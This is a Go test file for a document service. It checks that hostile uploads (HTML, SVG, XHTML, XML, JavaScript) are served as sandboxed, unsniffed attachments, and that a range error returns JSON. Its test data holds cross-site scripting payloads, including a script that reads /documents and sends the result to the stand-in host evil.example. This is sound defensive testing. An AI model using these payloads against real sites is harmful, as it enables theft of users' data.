package document

import (
	"io"
	"strings"
	"testing"
)

// A hostile upload (HTML or SVG carrying a script) is served so that no
// browser runs it in the app's origin: a download, sandboxed, never
// sniffed. Only the safe preview types render inline, and then sandboxed
// and unsniffed too; a text/plain upload full of HTML stays text.
func TestContentIsServedSafely(t *testing.T) {
	e := newEnv(t)
	const script = `<script>fetch("/documents").then(r=>r.text()).then(t=>new Image().src="//evil.example/?"+t)</script>`
	cases := []struct {
		name, contentType, content string
		inline                     bool
	}{
		{"HTML with a script", "text/html", "<html><body>" + script + "</body></html>", false},
		{"HTML declared oddly", "TEXT/HTML; charset=utf-8", script, false},
		{"SVG with a script", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)">` + script + `</svg>`, false},
		{"XHTML", "application/xhtml+xml", `<html xmlns="http://www.w3.org/1999/xhtml">` + script + `</html>`, false},
		{"XML", "text/xml", `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`, false},
		{"JavaScript", "application/javascript", "alert(document.cookie)", false},
		{"plain text full of HTML", "text/plain", script, true},
		{"plain text with a charset", "text/plain; charset=utf-8", "hello", true},
		{"a PDF", "application/pdf", "%PDF-1.4\n%%EOF\n", true},
		{"a PNG, upper case", "Image/PNG", "PNG image bytes", true},
		{"a WebP", "image/webp", "RIFF WEBP", true},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			var d Document
			if resp := e.do(t, "POST", "/documents", map[string]any{
				"title": `<img src=x onerror=alert(1)>`, "content": c.content, "content_type": c.contentType, "created_by": "x@example.com",
			}, &d); resp.StatusCode != 201 {
				t.Fatalf("create: %d", resp.StatusCode)
			}
			resp := e.do(t, "GET", "/documents/"+d.ID+"/content", nil, nil)
			body, _ := io.ReadAll(resp.Body)
			if resp.StatusCode != 200 || string(body) != c.content {
				t.Fatalf("content %d %q", resp.StatusCode, body)
			}
			h := resp.Header
			if h.Get("X-Content-Type-Options") != "nosniff" || h.Get("Content-Security-Policy") != "sandbox" {
				t.Fatalf("nosniff %q, CSP %q", h.Get("X-Content-Type-Options"), h.Get("Content-Security-Policy"))
			}
			disp := h.Get("Content-Disposition")
			if c.inline != (disp == "inline") || !c.inline && !strings.HasPrefix(disp, "attachment") {
				t.Fatalf("Content-Disposition %q for %s", disp, c.contentType)
			}
			// The stored type is still what the uploader said (the
			// reference's behaviour; the service lower-cases it), never one
			// the server guessed.
			if !strings.EqualFold(h.Get("Content-Type"), c.contentType) {
				t.Fatalf("Content-Type %q, want %q", h.Get("Content-Type"), c.contentType)
			}
		})
	}
}

// An error answer about content (a range past the end) is JSON, not an
// attachment.
func TestAContentErrorIsNoAttachment(t *testing.T) {
	e := newEnv(t)
	var d Document
	e.do(t, "POST", "/documents", map[string]any{"title": "x", "content": "<b>hi</b>", "content_type": "text/html", "created_by": "x@example.com"}, &d)
	resp := e.do(t, "GET", "/documents/"+d.ID+"/content", nil, nil, "Range", "bytes=20-30")
	if resp.StatusCode != 416 || resp.Header.Get("Content-Disposition") != "" || resp.Header.Get("Content-Type") != "application/json" {
		t.Fatalf("%d, Content-Disposition %q, Content-Type %q", resp.StatusCode, resp.Header.Get("Content-Disposition"), resp.Header.Get("Content-Type"))
	}
}
